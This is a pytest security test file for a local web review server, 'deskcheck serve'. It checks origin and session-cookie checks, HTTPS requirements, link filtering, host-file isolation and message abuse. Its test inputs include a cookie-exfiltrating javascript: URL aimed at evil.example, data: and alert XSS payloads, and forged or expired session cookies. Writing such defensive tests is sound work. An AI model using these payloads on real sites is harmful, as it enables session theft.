"""`deskcheck serve`: who may reach the desk through a browser, and what reaches the host.

Every test runs the real server (`python -m deskcheck serve`) on 127.0.0.1 against a real
desk file, and reaches it as a browser would: aiohttp for the requests an attacker's page
could make. Logins: test_serve_logins.py; real Chromium: test_serve_browser.py; tabs and
the warm parent: test_serve_tabs.py.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sqlite3
import subprocess
import time
from pathlib import Path

import aiohttp
import pytest
from itsdangerous import URLSafeTimedSerializer

from deskcheck.data import Desk
from deskcheck.ui.serve import ServeConfig
from tests.conftest import run_process
from tests.serving import (
    add_logins,
    browser_session,
    first_frames,
    free_port,
    plain,
    serving,
    sessions_started,
    until,
)
from tests.waiting import wait_until

# -- cross-site: nothing reaches the app without the session cookie and the desk's Origin ----


def test_the_websocket_refuses_other_sites_and_missing_forged_or_expired_sessions(
    sample_path: Path,
) -> None:
    """A web page the reviewer visits can open ws://127.0.0.1:PORT/ws. Before, it got the
    queue and could record under the server's reviewer. Now each of these is refused with
    403 and no app is started for it; the reviewer's own browser still gets the desk."""
    before = sessions_started(sample_path)
    key = sample_path.with_name(sample_path.name + ".serve-key")
    with serving(sample_path) as served:
        # the desk's own serving key, as a cookie thief with the key file would have it
        secret = key.read_bytes() if key.exists() else b"no key: serve keeps none" * 2
        real = URLSafeTimedSerializer(secret, salt="deskcheck-session")
        forged = URLSafeTimedSerializer(b"x" * 32, salt="deskcheck-session")
        old = URLSafeTimedSerializer(secret, salt="deskcheck-session")
        old.signer_kwargs = {}  # a session signed 13 hours ago (sessions last 12)
        expired = _signed_at(old, {"r": "web", "m": "token", "s": ""}, time.time() - 13 * 3600)
        attempts = {
            "a foreign Origin, with a valid session": (
                "http://evil.example",
                real.dumps({"r": "web", "m": "token", "s": ""}),
            ),
            "a look-alike Origin, with a valid session": (
                f"http://127.0.0.1:{served.port}.evil.example",
                real.dumps({"r": "web", "m": "token", "s": ""}),
            ),
            "no Origin, with a valid session": (None, real.dumps({"r": "web", "m": "token"})),
            "the desk's Origin, no cookie": (served.origin, None),
            "the desk's Origin, a forged cookie": (
                served.origin,
                forged.dumps({"r": "web", "m": "token", "s": ""}),
            ),
            "the desk's Origin, an expired cookie": (served.origin, expired),
            "the desk's Origin, a session for another reviewer": (
                served.origin,
                real.dumps({"r": "mallory", "m": "token", "s": ""}),
            ),
        }

        async def attempt(origin: str | None, cookie: str | None) -> int | str:
            headers = {"Origin": origin} if origin else {}
            if cookie:
                headers["Cookie"] = f"deskcheck_session={cookie}"
            async with aiohttp.ClientSession() as session:
                try:
                    async with session.ws_connect(
                        f"{served.origin}/ws", headers=headers, origin=origin
                    ) as ws:
                        drawn = await first_frames(ws, b"Halden")
                        return f"opened, {len(drawn)} bytes of the desk"
                except aiohttp.WSServerHandshakeError as error:
                    return error.status

        outcomes = {
            what: asyncio.run(attempt(origin, cookie))
            for what, (origin, cookie) in attempts.items()
        }
        apps = served.apps()

        async def the_reviewer() -> bytes:
            async with browser_session() as session:
                async with session.get(served.start_url) as page:
                    assert page.status == 200 and "websocket" in await page.text()
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    return await first_frames(ws, b"Halden")

        drawn = asyncio.run(the_reviewer())
    assert outcomes == dict.fromkeys(attempts, 403)
    assert apps == [], "an app was started for a refused connection"
    assert b"Port of Halden" in drawn
    assert sessions_started(sample_path) == before + 1  # the reviewer's, no other


def _signed_at(serializer: URLSafeTimedSerializer, value: object, when: float) -> str:
    signer = serializer.make_signer()
    signer.get_timestamp = lambda: int(when)  # type: ignore[method-assign]
    payload = serializer.dump_payload(value)
    from itsdangerous.encoding import base64_encode

    return signer.sign(base64_encode(payload)).decode()


def test_the_printed_url_works_once_and_the_page_needs_its_session(sample_path: Path) -> None:
    with serving(sample_path) as served:

        async def visit() -> tuple[int, int, int, str]:
            async with (
                aiohttp.ClientSession() as stranger,
                stranger.get(f"{served.origin}/") as page,
            ):
                stranger_status = page.status
            async with (
                browser_session() as session,
                session.get(served.start_url, allow_redirects=False) as first,
            ):
                cookie = first.headers.get("Set-Cookie", "")
            async with browser_session() as later, later.get(served.start_url) as second:
                return stranger_status, first.status, second.status, cookie

        stranger, first, second, cookie = asyncio.run(visit())
        printed = "".join(served.printed)
        served.process.send_signal(2)
        served.process.wait(timeout=10)
        log = served.process.stderr.read().decode()
    assert stranger == 403
    assert first == 303 and second == 403
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
    token = served.start_url.split("token=")[1]
    assert printed.count(token) == 1  # printed once, for the one who started it
    assert token not in log and cookie.split(";")[0].split("=", 1)[1] not in log
    assert "Traceback" not in log


def test_serving_beyond_this_machine_needs_team_logins(sample_path: Path) -> None:
    result = run_process("serve", "--host", "0.0.0.0", "--desk", str(sample_path))
    assert result.returncode != 0
    assert "without --team" in result.stderr and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    result = run_process("serve", "--team", "--desk", str(sample_path))
    assert result.returncode != 0 and "reviewer add" in result.stderr


@pytest.mark.parametrize(
    "public_url",
    [None, "http://desk.example.org", "HTTP://desk.example.org", "javascript:alert(1)"],
)
def test_a_team_desk_beyond_this_machine_needs_an_https_public_url(
    sample_path: Path, public_url: str | None
) -> None:
    """`--team --host 0.0.0.0` served plain HTTP with a warning: passwords and cookies
    (no Secure flag) crossed the network readable. Now it is refused, in one line."""
    add_logins(sample_path, "mara")
    url_args = ["--public-url", public_url] if public_url else []
    args = ["serve", "--team", "--host", "0.0.0.0", "--port", str(free_port()), *url_args]
    try:
        result = run_process(*args, "--desk", str(sample_path))
    except subprocess.TimeoutExpired:  # it served: stopped by run_process's timeout
        pytest.fail("served a team desk beyond this machine over plain HTTP")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "https" in result.stderr


@pytest.mark.parametrize(
    ("host", "team", "public_url", "refused"),
    [
        ("127.0.0.1", False, "", False),
        ("localhost", True, "", False),
        ("::1", True, "http://[::1]:8000", False),
        ("0.0.0.0", False, "https://desk.example.org", True),
        ("0.0.0.0", True, "", True),
        ("0.0.0.0", True, "http://desk.example.org", True),
        ("192.0.2.7", True, "https://desk.example.org", False),
        ("::", True, "HTTPS://desk.example.org", False),
        ("127.0.0.2", True, "", True),  # loopback by address, but not one of ours: refused
    ],
)
def test_which_addresses_may_be_served_how(
    tmp_path: Path, host: str, team: bool, public_url: str, refused: bool
) -> None:
    config = ServeConfig(tmp_path / "desk.db", host, 8000, team, "web", public_url=public_url)
    assert (config.refusal() is not None) == refused


# -- only web links leave the app ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("origin_url", "opened"),
    [
        ("javascript:fetch('//evil.example/?'+document.cookie)", False),
        (" JavaScript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("https://news.example/item/7", True),
    ],
)
def test_o_sends_only_web_links_to_the_browser(
    tmp_path: Path, origin_url: str, opened: bool
) -> None:
    """A feed item's URL becomes a claim's origin; `o` hands it to the browser page, which
    passes it to window.open. Only http and https may get there."""
    desk_path = tmp_path / "desk.db"
    with Desk.open(desk_path, reviewer="tester", create=True) as desk:
        claim = desk.add_claim("The harbour fees will double next year")
    # planted as another program would: the desk's own writes refuse a non-web origin now
    with sqlite3.connect(desk_path) as conn:
        conn.execute("UPDATE claims SET origin_url = ? WHERE id = ?", [origin_url, claim])
    conn.close()
    with serving(desk_path) as served:

        async def press_o() -> tuple[list[str], bytes]:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    drawn = await first_frames(ws, b"harbour fees")
                    texts: list[str] = []
                    await ws.send_json(["stdin", "\r"])  # open the claim
                    drawn += await until(ws, b"Decision", texts)
                    await ws.send_json(["stdin", "o"])
                    wanted = b"Opening" if opened else b"Not opened"
                    drawn += await until(ws, wanted, texts)
                    return texts, drawn

        texts, drawn = asyncio.run(press_o())
    sent = [json.loads(t) for t in texts if t.startswith('["open_url"')]
    if opened:
        assert [s[1]["url"] for s in sent] == [origin_url]
    else:
        assert sent == []
        assert "Not opened" in plain(drawn)


# -- a served app does not outlive its server ---------------------------------------------------


def _process_gone(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except FileNotFoundError:
        return True
    return "State:\tZ" in status  # exited, waiting to be reaped by init


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs Linux /proc")
def test_a_served_desk_ends_its_session_when_its_server_dies(sample_path: Path) -> None:
    """Killed without a chance to clean up, the server leaves the app it started for a browser
    behind; that app must notice, end its review session and exit, not hold the desk."""
    with serving(sample_path) as served:

        async def open_in_browser() -> list[int]:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    await first_frames(ws, b"Halden")
                    apps = served.apps()
                    served.process.kill()  # only the server: its app is left behind
                    return apps

        with contextlib.suppress(aiohttp.ClientError, asyncio.TimeoutError):
            apps = asyncio.run(open_in_browser())
        assert len(apps) == 1, "the server should have started one app"
        wait_until(lambda: _process_gone(apps[0]), what="the orphaned app to exit", timeout=15)
    with Desk.open(sample_path, reviewer="check") as desk:
        sessions = list(desk.db["review_sessions"].rows_where("reviewer = ?", ["web"]))
    assert sessions and all(s["ended_at"] is not None for s in sessions)


# -- a reviewer in a browser cannot reach the host's files ----------------------------------------


def test_from_the_browser_no_file_on_the_host_is_read_or_written(tmp_path: Path) -> None:
    """Under `serve` the reviewer is at another machine: ingesting a file path would read
    the server's files into claims, and an export would write wherever they typed."""
    desk_path = tmp_path / "desk.db"
    secret = tmp_path / "host-secret.csv"
    secret.write_text("text\nthe server's private line\n", encoding="utf-8")
    with Desk.open(desk_path, reviewer="tester", create=True) as desk:
        desk.add_claim("The harbour fees will double next year")
    with serving(desk_path) as served:

        async def try_files() -> None:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    texts: list[str] = []
                    await first_frames(ws, b"harbour fees")
                    await ws.send_json(["stdin", "I"])
                    await until(ws, b"Ingest claims", texts)
                    await ws.send_json(["stdin", str(secret)])
                    await until(ws, secret.name.encode(), texts)
                    await ws.send_json(["stdin", "\x13"])  # ctrl+s
                    refused = plain(await until(ws, b"Not from the browser", texts))
                    assert "Not from the browser: ingesting a" in refused
                    await ws.send_json(["stdin", "\x1b"])  # dismiss anything left open
                    await ws.send_json(["stdin", "\r"])
                    await until(ws, b"Decision", texts)
                    await ws.send_json(["stdin", "x"])
                    # the ingest refusal may still be on screen: wait for the export's own
                    wanted = b"Not from the browser: an export"
                    refused = plain(await until(ws, wanted, texts))
                    assert wanted.decode() in refused

        asyncio.run(try_files())
    with Desk.open(desk_path, reviewer="check") as desk:
        texts = [row[0] for row in desk.db.execute("SELECT text FROM claims")]
    assert texts == ["The harbour fees will double next year"]


def test_malformed_and_huge_messages_do_not_break_the_desk(sample_path: Path) -> None:
    """A logged-in page that sends garbage, an absurd screen size or a megabyte at once:
    the desk keeps drawing at a sane size, and an oversized message ends only that
    connection."""
    with serving(sample_path) as served:

        async def abuse() -> tuple[str, bool, bytes]:
            async with browser_session() as session:
                async with session.get(served.start_url):
                    pass
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    texts: list[str] = []
                    await first_frames(ws, b"Halden")
                    await ws.send_str("not json at all")
                    await ws.send_str('{"stdin": 1}')
                    await ws.send_json(["resize", {"width": 10**9, "height": 10**9}])
                    await ws.send_json(["stdin", "?"])  # the help: the app still answers
                    after = plain(await until(ws, b"Help", texts))
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    await first_frames(ws, b"Halden")
                    await ws.send_str("x" * (1024 * 1024))
                    deadline = time.monotonic() + 20
                    while time.monotonic() < deadline:  # the app may still be drawing
                        message = await ws.receive(timeout=20)
                        if message.type not in (aiohttp.WSMsgType.BINARY, aiohttp.WSMsgType.TEXT):
                            break
                    closed = ws.closed or message.type not in (
                        aiohttp.WSMsgType.BINARY,
                        aiohttp.WSMsgType.TEXT,
                    )
                async with session.ws_connect(f"{served.origin}/ws", origin=served.origin) as ws:
                    again = await first_frames(ws, b"Halden")
            return after, closed, again

        after, closed, again = asyncio.run(abuse())
    assert "Help" in after
    assert closed
    assert b"Port of Halden" in again
